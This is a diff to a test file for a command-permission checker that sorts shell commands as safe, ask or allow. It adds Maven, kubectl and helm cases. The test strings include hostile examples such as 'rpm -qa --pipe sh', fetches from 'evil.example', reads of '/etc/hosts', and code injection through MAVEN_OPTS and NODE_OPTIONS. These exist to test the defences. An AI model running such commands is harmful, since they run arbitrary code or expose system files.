@@ -4,7 +4,7 @@ import * as assert from 'uvu/assert';
 import { decideIn, type World } from '../decide/world.js';
 
 /** Settings of the project from which programs take what they do. */
-const SETTINGS = ['.npmrc', 'bunfig.toml', 'rust-toolchain', 'rust-toolchain.toml'] as const;
+const SETTINGS = ['.npmrc', 'bunfig.toml', 'rust-toolchain', 'rust-toolchain.toml', '.mvn'] as const;
 
 const decisionOf = (world: World, line: string) => decideIn({ missing: SETTINGS, ...world }, 'Bash', line).decision;
 
@@ -20,6 +20,7 @@ docker compose up --help; podman --version; kubectl --help; kubectl get --help; 
 tofu version; aws --version; gcloud --version; gcloud version; gcloud info; psql --version; mysql --version; sqlite3 --version
 redis-cli --version; mongosh --version; systemctl --version; systemctl is-active x; systemctl list-units; journalctl --version
 apt list --installed; apt show x; apt-cache policy x; dpkg -l; dpkg -s x; dpkg-query -W x; rpm --version; rpm -qa; dnf --version; pacman -Q
+mvn -v; mvn --version; kubectl version --client; helm version; helm version --short
 brew --version; brew list; brew list --versions python@3.12; brew leaves; bash -n x.sh; sh -n scripts/a.sh; timeout 5 bash -n x.sh
 `;
 
@@ -40,7 +41,7 @@ poetry install; poetry run x; poetry --version; poetry show; pytest; pytest --ve
 cargo build; cargo test; cargo run; cargo --version x; cargo tree; cargo metadata; cargo x; cargo publish; rustc a.rs; rustup --version
 rustup update; rustup run x y; rustfmt --version; go build; go test; go run .; go version; go env; go env -w A=b; go list; go vet; go generate; go mod tidy
 gofmt -w .; make; make -n; make test; make -f x; cmake .; cmake --build x; cmake -E rm x; cmake -P x; ctest; ninja; gradle build; gradle --version
-mvn test; mvn --version; java -jar a.jar; java Main; java @x; javac A.java; dotnet build; dotnet --version; dotnet a.dll; ruby a.rb; ruby -e 1; gem install x
+mvn test; mvn -v test; mvn -v -f x; ./mvnw -v; java -jar a.jar; java Main; java @x; javac A.java; dotnet build; dotnet --version; dotnet a.dll; ruby a.rb; ruby -e 1; gem install x
 gem env; bundle; bundle exec x; bundle --version; rake; php a.php; php -r 1; php -S x; composer install; composer --version; composer x; docker run x
 docker exec x y; docker ps; docker inspect x; docker -H x --version; docker build .; docker login; docker x; docker cp a b; docker compose up
 docker compose config; docker compose ps; docker-compose up; podman run x; podman ps; podman --runtime ./x --version; kubectl get pods
@@ -55,7 +56,7 @@ systemctl edit x; systemctl -H x is-active y; journalctl; journalctl --vacuum-si
 dpkg -i x.deb; dpkg -P x; dpkg --pre-invoke=x -l; rpm -i x; rpm -e x; rpm --eval '%(id)'; rpm -qa --pipe sh; dnf install x; dnf list; pacman -S x
 pacman -R x; brew install x; brew services list; brew info x; brew x
 brew list ./evil.rb; brew ls evil/tap/x; brew list https://evil.example/x.rb; brew list --versions a.rb/b; helm lint .; helm lint -f https://evil.example/x chart
-helm lint chart; az --version; az version; az version --query @/etc/hosts; az group list --help; gcloud info --run-diagnostics; gcloud info --show-log
+helm lint chart; kubectl version; kubectl version --client --kubeconfig x; kubectl version --client x; kubectl --kubeconfig x version --client; helm version --kubeconfig x; helm version x; az --version; az version; az version --query @/etc/hosts; az group list --help; gcloud info --run-diagnostics; gcloud info --show-log
 npm run x --help y; npm run --frob; npm run build --; bash x.sh; bash -n -c id; bash -n; bash -n x.sh y; bash +n x.sh; bash -n +n x.sh; bash -nx x.sh; bash -n *.sh; bash -n ~/x
 zsh -n x.sh; BASH_ENV=./x bash -n x.sh; ./bash -n x.sh; bash -n /etc/profile; bash -n .env; bash -n "$X"; find . | xargs bash -n; bash -n - < x; cat https://evil.example/x; git shortlog --group=format:%GS HEAD
 `;
@@ -253,12 +254,16 @@ for (const [line, file] of [
   ['bun pm ls', 'bunfig.toml'],
   ['cargo --version', 'rust-toolchain.toml'],
   ['rustc -V', 'rust-toolchain'],
+  ['mvn -v', '.mvn'],
 ] as const)
   test(`asks where the project has ${file}: ${line}`, () => {
     const world = { preset: 'safe', missing: SETTINGS.filter((name) => name !== file) } as const;
     assert.is(decisionOf(world, line), 'ask');
     assert.is(
-      decisionOf({ ...world, allow: ['Bash(npm *)', 'Bash(npm run)', 'Bash(bun pm *)', 'Bash(cargo *)', 'Bash(rustc *)'] }, line),
+      decisionOf(
+        { ...world, allow: ['Bash(npm *)', 'Bash(npm run)', 'Bash(bun pm *)', 'Bash(cargo *)', 'Bash(rustc *)', 'Bash(mvn *)'] },
+        line,
+      ),
       'allow',
     );
   });
@@ -268,6 +273,8 @@ test('a variable that node or a shell reads is not excused by a call that only t
     'NODE_OPTIONS=--require=./x node --version',
     'npm_config_node_options=-r./x npm ls',
     'RUBYOPT=-r./x ruby --version',
+    'MAVEN_OPTS=-javaagent:x.jar mvn -v',
+    'JAVA_HOME=./x mvn -v',
   ])
     assert.is.not(decisionOf({ preset: 'safe' }, line), 'allow', line);
 });
